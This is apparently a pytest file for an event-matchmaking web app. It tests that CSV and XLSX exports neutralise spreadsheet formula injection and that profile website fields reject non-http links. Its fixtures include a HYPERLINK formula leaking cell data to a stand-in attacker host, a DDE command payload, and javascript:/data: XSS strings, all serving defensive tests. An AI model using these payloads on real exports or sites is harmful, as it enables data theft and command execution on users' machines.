"""CSV and Excel exports: text that a spreadsheet would run as a formula stays text, and the
importer reads the exported file back unchanged. Website links are http(s) only."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from matchmaker.extensions import db
from matchmaker.models import MeetingRequest
from matchmaker.services.importing import FORMULA_START, check_rows, read_table
from matchmaker.services.participants import (
    ProfileData,
    RegistrationError,
    update_profile,
)
from tests.eventday import build_day, meet
from tests.views.helpers import organise

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Details")'
FORMULAS = {  # Day.person's first argument is the first name
    "first_name": "@SUM(1+1)",
    "last_name": "+Müller",
    "organisation": HYPERLINK,
    "city": "-2+3",
    "profile_text": "=1+1",
}
MESSAGE = "=cmd|' /C calc'!A0"
TABLE = "=Tisch 1"


@pytest.fixture
def exports(app, client, make_event, make_participant):
    day = build_day(make_event, make_participant)
    day.tables[0].name = TABLE
    anna = day.person(**FORMULAS)
    ben = day.person("Ben")
    meet(day, anna, ben, slot=1, table=1)
    db.session.add(MeetingRequest(event_id=day.event.id, sender_id=anna.id, receiver_id=ben.id,
                                  message=MESSAGE))  # fmt: skip
    organise(client, day.event)

    def get(path: str) -> bytes:
        response = client.get(f"/organiser/events/{day.event.slug}/{path}")
        assert response.status_code == 200, path
        return response.data

    return day, get


def _csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("what", ["participants", "requests", "meetings"])
def test_csv_cells_never_start_a_formula(exports, what):
    _day, get = exports
    cells = [c for row in _csv(get(f"export/{what}.csv")) for c in row]
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    expected = {
        "participants": {"'" + v for v in FORMULAS.values()},
        "requests": {"'" + HYPERLINK, "'" + MESSAGE},
        "meetings": {"'" + TABLE, "'" + HYPERLINK},
    }[what]
    assert expected <= set(cells)


@pytest.mark.parametrize("what", ["participants", "requests", "meetings"])
def test_xlsx_stores_text_as_text(exports, what):
    _day, get = exports
    sheet = load_workbook(io.BytesIO(get(f"export/{what}.xlsx"))).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert HYPERLINK in values  # exactly as typed: no apostrophe needed in a text cell


def test_figures_csv_neutralises_names(exports):
    _day, get = exports
    cells = [c for row in _csv(get("figures.csv")) for c in row]
    assert "'" + TABLE in cells
    assert [c for c in cells if c.startswith(FORMULA_START)] == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_participants_read_back_unchanged(exports, fmt):
    day, get = exports
    rows = read_table(f"people.{fmt}", get(f"export/participants.{fmt}"))
    anna = next(r for r in rows if r["first_name"] == FORMULAS["first_name"])
    assert {k: anna[k] for k in FORMULAS} == FORMULAS
    assert check_rows(day.event, rows) == []


@pytest.mark.parametrize(
    "website",
    [
        "javascript:alert(1)",
        "JavaScript://example.org/%0Aalert(1)",  # a comment line, then code
        "data:text/html,<script>alert(1)</script>",
        "//evil.example",
        "https://",
    ],
)
def test_profile_website_must_be_http(app, make_participant, website):
    person = make_participant()
    data = ProfileData(
        first_name="Anna", last_name="Beispiel", email=person.email, organisation="Lumen GmbH",
        actor_type="sme", country="DE", website=website, languages=("de",),
        session_ids=tuple(s.id for s in person.event.sessions),
    )  # fmt: skip
    with pytest.raises(RegistrationError) as caught:
        update_profile(person, data)
    assert caught.value.field == "website"


def test_import_refuses_a_javascript_website(app, make_event):
    event = make_event()
    row = {"first_name": "A", "last_name": "B", "email": "a@b.example", "organisation": "O",
           "actor_type": "sme", "country": "DE", "languages": "de",
           "website": "javascript://x.example/%0aalert(1)"}  # fmt: skip
    assert [(e.column, e.message) for e in check_rows(event, [row])] == [
        ("website", "start the address with https://")
    ]
